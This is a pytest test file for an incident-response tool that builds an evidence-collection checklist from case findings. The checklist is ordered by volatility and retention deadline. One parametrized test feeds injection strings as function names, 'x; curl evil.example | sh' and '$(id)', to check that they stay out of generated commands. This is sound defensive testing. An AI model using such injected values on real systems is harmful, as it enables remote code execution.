"""What to collect next: from what the case saw, in order of volatility, with the day on which it is gone."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import pytest
from tests.findings import tables as t

from playbooks import schema
from playbooks.case import new_case
from playbooks.collection import Given, checklist
from playbooks.errors import UsageError
from playbooks.guide.results import Results

LAST = dt.datetime(2026, 3, 11, 23, tzinfo=dt.UTC)
PLACE = {"src": [t.CLIENT], "dst": [t.WORKER]}


def coverage(*spots: tuple[str, str], **sources: tuple[str, ...]) -> dict[str, Any]:
    """Coverage whose `sources` are evidence ids per event table, and whose blind spots are id and what is missing."""
    return {
        "sources": [
            {"tables": [table], "format": f"{table}_format", "events": 10, "evidence": list(ids),
             "first": "2026-03-10T00:00:00+00:00", "last": LAST.isoformat()}
            for table, ids in sources.items()
        ],
        "blind_spots": [
            {"id": spot, "missing": missing, "forbids": "much", "recommend": "Do something."} for spot, missing in spots
        ],
    }  # fmt: skip


ALL = {
    "dns_activity": ("E001",),
    "http_activity": ("E003",),
    "network_activity": ("E004",),
    "api_activity": ("E002",),
}


def told(*findings: dict[str, Any], leads: tuple[dict[str, Any], ...] = ()) -> dict[str, Any]:
    return {"findings": list(findings), "leads": list(leads)}


def about(hypothesis: str, number: int = 1, **subjects: list[str]) -> dict[str, Any]:
    return {"id": f"{hypothesis}-{number}", "hypothesis": hypothesis, "subjects": subjects}


def listed(
    found: dict[str, Any] | None = None,
    pairs: tuple[dict[str, Any], ...] = (),
    acts: tuple[dict[str, Any], ...] = (),
    cover: dict[str, Any] | None = None,
    given: tuple[Given, ...] = (),
    at: dt.datetime | None = None,
) -> dict[str, Any]:
    tables = t.pairs(*pairs), t.activity(*acts)
    return checklist(found or told(), *tables, cover or coverage(**ALL), given, at)


def rows(result: dict[str, Any], *names: str) -> list[tuple[Any, ...]]:
    return [tuple(row[name] for name in names) for row in result["rows"]]


def one(result: dict[str, Any], kind: str) -> dict[str, Any]:
    [row] = [row for row in result["rows"] if row["kind"] == kind]
    return dict(row)


def test_a_host_of_a_finding_comes_before_its_logs_and_before_the_destination_and_points_at_its_records() -> None:
    result = listed(told(about("A", **PLACE)), (t.pair(),), cover=coverage())
    assert rows(result, "no", "kind", "entity", "state")[:5] == [
        (1, "host-memory", "host 10.0.0.9", "not yet"),
        (2, "endpoint-records", "host 10.0.0.9", "not yet"),
        (3, "resolver-logs", "DNS logs", "not yet"),
        (4, "proxy-logs", "web logs", "not yet"),
        (5, "egress-flows", "flow and TLS logs", "not yet"),
    ]
    assert [row["kind"] for row in result["rows"][5:]] == ["own-web-logs", "outside-knowledge"]
    memory = one(result, "host-memory")
    assert (memory["refs"], memory["because"]) == (["E001:1", "E001:50", "E001:100"], ["A-1"])


def test_a_client_that_stands_in_no_finding_and_no_lead_is_not_listed() -> None:
    result = listed(told(about("A", **PLACE)), (t.pair(), t.pair("10.0.0.10"), t.pair(dst="other.workers.dev")))
    assert {row["entity"] for row in result["rows"] if row["kind"] == "host-memory"} == {"host 10.0.0.9"}
    assert {row["entity"] for row in result["rows"] if row["kind"] == "outside-knowledge"} == {
        f"destination {t.WORKER}"
    }


def test_hosts_of_findings_come_before_hosts_of_leads() -> None:
    lead = about("A", 2, src=["10.0.0.1"], dst=["lead.workers.dev"])
    result = listed(told(about("A", **PLACE), leads=(lead,)), (t.pair("10.0.0.1", "lead.workers.dev"), t.pair()))
    assert [row["entity"] for row in result["rows"] if row["kind"] == "host-memory"] == [
        "host 10.0.0.9",
        "host 10.0.0.1",
    ]


FUNCTION_KINDS = [
    ("warm-environment", "not collectable"),
    ("function-code", "not yet"),
    ("function-access", "not yet"),
    ("function-logs", "not yet"),
    ("function-metrics", "not yet"),
    ("function-network", "not yet"),
]


def test_a_changed_function_brings_its_code_before_its_settings_its_logs_and_its_metrics() -> None:
    result = listed(acts=(t.act(),))
    mine = [row for row in result["rows"] if row["entity"].startswith("function invoice-export (1111")]
    assert [(row["kind"], row["state"]) for row in mine] == FUNCTION_KINDS
    assert {tuple(row["refs"]) for row in mine} == {("E002:1",)}


@pytest.mark.parametrize(
    ("name", "command"),
    [
        ("invoice-export", "playbooks acquire aws CASE --function invoice-export --region eu-central-1; or "),
        ("x; curl evil.example | sh", "playbooks acquire aws CASE --region eu-central-1; or "),
        ("$(id)", "playbooks acquire aws CASE --region eu-central-1; or "),
    ],
)
def test_a_name_from_evidence_goes_into_a_command_only_where_it_is_plain(name: str, command: str) -> None:
    assert one(listed(acts=(t.act(resource=name),)), "function-code")["how"].startswith(command)


def test_a_function_that_was_only_run_or_looked_at_brings_nothing() -> None:
    acts = (t.act("Invoke", "invoke"), t.act("GetFunction", "discovery", ref="E002:2"))
    assert [row for row in listed(acts=acts)["rows"] if row["kind"].startswith("function")] == []


def test_days_are_counted_from_the_last_event_and_a_run_after_the_change_is_one() -> None:
    acts = (t.act(), t.act("Invoke", "invoke", ref="E002:9", time=t.at(30)))
    metrics = one(listed(acts=acts), "function-metrics")
    assert metrics["expires"] == "2026-03-26T06:00:00+00:00"
    assert metrics["why_now"] == (
        "it runs out on 2026-03-26 06:00 UTC (last seen 2026-03-11 06:00 UTC + 15 days, 14 days left); "
        "the oldest runs out on 2026-03-25 09:00 UTC"
    )


@pytest.mark.parametrize(
    ("at", "overdue", "said"),
    [
        (dt.datetime(2026, 3, 25, 8, 59, 59, tzinfo=dt.UTC), False, "0 days left"),
        (dt.datetime(2026, 3, 25, 9, tzinfo=dt.UTC), True, "overdue: it ran out on 2026-03-25 09:00 UTC"),
        (dt.datetime(2026, 3, 25, 10, tzinfo=dt.timezone(dt.timedelta(hours=2))), False, "0 days left"),
    ],
)
def test_overdue_is_said_from_the_moment_on(at: dt.datetime, overdue: bool, said: str) -> None:
    result = listed(acts=(t.act(),), at=at)
    metrics = one(result, "function-metrics")
    assert (metrics["overdue"], said in metrics["why_now"]) == (overdue, True)
    assert any("past the documented retention" in word for word in result["words"]) is overdue
    assert result["at_is"] == "given"


def test_the_newest_event_is_the_moment_where_none_is_given_and_the_list_is_the_same_each_time() -> None:
    result = listed(acts=(t.act(),))
    assert (result["at"], result["at_is"]) == (LAST.isoformat(), "the newest event in evidence")
    assert result == listed(acts=(t.act(),))


@pytest.mark.parametrize("table", ["indicators", "acquired_answers"])
def test_an_indicator_of_next_year_and_an_answer_of_today_are_no_events(table: str) -> None:
    cover = coverage(**ALL)
    cover["sources"].append({"tables": [table], "format": "x", "events": 1, "evidence": ["E009"],
                             "first": None, "last": "2027-01-01T00:00:00+00:00"})  # fmt: skip
    assert listed(cover=cover)["at"] == LAST.isoformat()


def test_a_moment_without_a_zone_is_refused() -> None:
    with pytest.raises(UsageError, match="without a zone"):
        listed(at=dt.datetime(2026, 3, 25))


# in evidence already


def test_a_log_in_evidence_comes_last_and_one_with_gaps_says_what_is_lacking() -> None:
    spots = (("gap-http_activity_format", "14 hours of http_activity_format"), ("gap-other", "2 hours of other"))
    result = listed(cover=coverage(*spots, **ALL))
    assert rows(result, "kind", "state", "evidence", "lacking") == [
        ("proxy-logs", "in part", ["E003"], ["14 hours of http_activity_format"]),
        ("resolver-logs", "in evidence", ["E001"], []),
        ("egress-flows", "in evidence", ["E004"], []),
    ]


def answer(operation: str, resource: str = "invoice-export", outcome: str = "answered", **place: str) -> Given:
    where = {"region": "eu-central-1", "account": "111111111111"} | place
    return Given(f"E020:{len(operation)}", operation, resource, where["region"], where["account"], outcome)


BOTH = ("GetFunction", "ListVersionsByFunction")


@pytest.mark.parametrize(
    ("given", "state", "lacking"),
    [
        ((), "not yet", []),
        (tuple(map(answer, BOTH)), "in evidence", []),
        ((answer("GetFunction"),), "in part", ["ListVersionsByFunction"]),
        ((answer(BOTH[0]), answer(BOTH[1], outcome="refused")), "in part", ["ListVersionsByFunction"]),
        ((answer(BOTH[0], outcome="refused"),), "not yet", ["GetFunction: refused"]),
        (tuple(answer(name, outcome="unchanged") for name in BOTH), "in evidence", []),
        # the same name elsewhere, and a name that only begins or ends alike
        (tuple(answer(name, region="us-east-1") for name in BOTH), "not yet", []),
        (tuple(answer(name, account="222222222222") for name in BOTH), "not yet", []),
        (tuple(answer(name, "invoice-export-2") for name in BOTH), "not yet", []),
        (tuple(answer(name, "my-invoice-export") for name in BOTH), "not yet", []),
        (tuple(answer(name, "other:invoice-export") for name in BOTH), "not yet", []),  # an alias of another
        (tuple(answer(name, "invoice-export:live") for name in BOTH), "in evidence", []),
        (
            tuple(answer(name, "arn:aws:lambda:eu-central-1:111111111111:function:invoice-export:3") for name in BOTH),
            "in evidence",
            [],
        ),
    ],
)
def test_what_was_acquired_of_this_function_and_no_other_is_in_evidence(
    given: tuple[Given, ...], state: str, lacking: list[str]
) -> None:
    code = one(listed(acts=(t.act(),), given=given), "function-code")
    assert (code["state"], code["lacking"]) == (state, lacking)
    assert code["evidence"] == (["E020"] if state != "not yet" else [])


def test_audit_records_in_evidence_are_in_part_while_a_blind_spot_asks_for_more() -> None:
    cover = coverage(("no-data-events", "data events of the own cloud"), **ALL)
    trail = one(listed(acts=(t.act(),), cover=cover), "cloudtrail")
    assert (trail["state"], trail["evidence"], trail["lacking"]) == (
        "in part",
        ["E002"],
        ["data events of the own cloud"],
    )
    assert trail["expires"] == "2026-06-08T09:00:00+00:00"
    assert one(listed(acts=(t.act(),)), "cloudtrail")["state"] == "in evidence"


# many, none


def test_what_only_accepted_principals_changed_shares_one_row_and_an_unexpected_change_has_its_own() -> None:
    accepted = [t.act(resource=f"f{n:02}", ref=f"E002:{n}", allowed_by="ci (owner)") for n in range(40)]
    result = listed(acts=(*accepted, t.act(resource="odd", ref="E002:99")))
    assert [row["entity"] for row in result["rows"] if row["kind"] == "function-code"] == [
        "function odd (111111111111, eu-central-1)",
        "40 more (changed only as accepted): function f00 (111111111111, eu-central-1), function f01 (111111111111, "
        "eu-central-1), function f02 (111111111111, eu-central-1), …",
    ]


def test_an_accepted_change_of_a_function_in_a_finding_has_a_row_of_its_own() -> None:
    acts = [t.act(resource=name, ref=f"E002:{n}", allowed_by="ci (owner)") for n, name in enumerate("abc", start=1)]
    found = told(about("B", resource=["b"], account=["111111111111"], principal=["j.doe"]))
    code = [row for row in listed(found, acts=tuple(acts))["rows"] if row["kind"] == "function-code"]
    assert [(row["entity"].split(" (")[0], row["because"]) for row in code] == [("function b", ["B-1"]), ("2 more", [])]


def test_more_than_can_be_read_share_a_row_and_none_is_left_out() -> None:
    acts = tuple(t.act(resource=f"f{n:03}", ref=f"E002:{n}") for n in range(300))
    code = [row for row in listed(acts=acts)["rows"] if row["kind"] == "function-code"]
    assert len(code) == 26
    assert code[-1]["entity"].startswith("275 more (as well): ")


def test_without_anything_observed_the_blind_spots_make_the_list_and_it_says_why_it_is_short() -> None:
    spots = (
        ("no-dns_activity", "DNS query logs"),
        ("no-api_activity", "cloud, SaaS and office audit logs"),
        ("unreviewed-baseline", "an inventory and an allow-list (unreviewed baseline)"),
    )
    result = listed(cover=coverage(*spots))
    assert rows(result, "kind", "entity", "state") == [
        ("resolver-logs", "DNS logs", "not yet"),
        ("proxy-logs", "web logs", "not yet"),
        ("egress-flows", "flow and TLS logs", "not yet"),
        ("cloudtrail", "the case", "not yet"),
        ("unreviewed-baseline", "the case", "not yet"),
    ]
    assert one(result, "unreviewed-baseline")["how"] == "Do something."
    assert result["at"] is None
    assert result["words"][-1].startswith("No record points at a host, a function or an account worth a look")


def test_a_new_case_without_evidence_has_its_list(tmp_path: Path) -> None:
    result = Results(new_case(tmp_path / "case", "T-1")).checklist()
    assert {"resolver-logs", "cloudtrail", "outside-knowledge"} <= {row["kind"] for row in result["rows"]}
    assert (tmp_path / "case" / "results" / "checklist.json").is_file()


def test_what_runs_out_first_is_said_in_words() -> None:
    words = listed(acts=(t.act(),))["words"]
    assert any(
        word.startswith("First to run out: function metrics of function invoice-export (111111111111, eu-central-1) ")
        for word in words
    )


def role(name: str, resource: str, ref: str = "E002:7") -> dict[str, Any]:
    place = {"account": "111111111111", "region": "eu-central-1", "resource_type": "function"}
    return {"role": name, "resource": resource, "relation": "held", "first_seen": t.at(1), "refs": [ref], **place}


def test_the_role_of_a_function_in_a_finding_is_listed_with_it_and_the_role_of_an_untouched_one_is_not() -> None:
    roles = t.table(schema.ROLE_LINKS, [role("billing-role", "invoice-export"), role("other-role", "untouched")])
    found = told(about("B", resource=["invoice-export"], account=["111111111111"]))
    result = checklist(found, t.pairs(), t.activity(t.act()), coverage(**ALL), roles=roles)
    assert [
        (row["entity"], row["refs"], row["because"]) for row in result["rows"] if row["kind"] == "role-policies"
    ] == [("role billing-role (111111111111)", ["E002:7"], ["B-1"])]


def test_a_role_that_was_changed_itself_is_listed_once() -> None:
    roles = t.table(schema.ROLE_LINKS, [role("billing-role", "invoice-export")])
    acts = t.act(), t.act("AttachRolePolicy", "identity", resource="billing-role", resource_type="role", ref="E002:8")
    result = checklist(told(), t.pairs(), t.activity(*acts), coverage(**ALL), roles=roles)
    assert [row["refs"] for row in result["rows"] if row["kind"] == "role-policies"] == [["E002:8"]]


def test_a_stage_that_is_blind_asks_for_what_would_open_it() -> None:
    stages = [
        {"stage": "execution", "name": "Execution", "state": "blind", "blind_for": ["10.0.0.1"], "refs": []},
        {"stage": "persistence", "name": "Persistence", "state": "blind", "blind_for": ["10.0.0.1"], "refs": []},
        {"stage": "exfiltration", "name": "Collection", "state": "clear", "blind_for": [], "refs": []},
        {"stage": "command-and-control", "name": "C2", "state": "found", "blind_for": [], "refs": ["E003:7"]},
    ]
    found = told(about("A", **PLACE) | {"lifecycle": {"stages": stages}})
    rows = {row["kind"]: row for row in listed(found)["rows"] if row["kind"].startswith("lifecycle-")}
    assert set(rows) == {f"lifecycle-{name}" for name in ("processes", "scripts", "registry", "jobs")}
    row = rows["lifecycle-processes"]
    assert (row["entity"], row["refs"], row["because"], row["state"]) == (
        "host 10.0.0.1", ["E003:7"], ["A-1"], "not yet",
    )  # fmt: skip
    assert row["why_now"] == "without it these stages are blind around first contact: execution, persistence"
    assert "Sysmon 1" in row["what"]
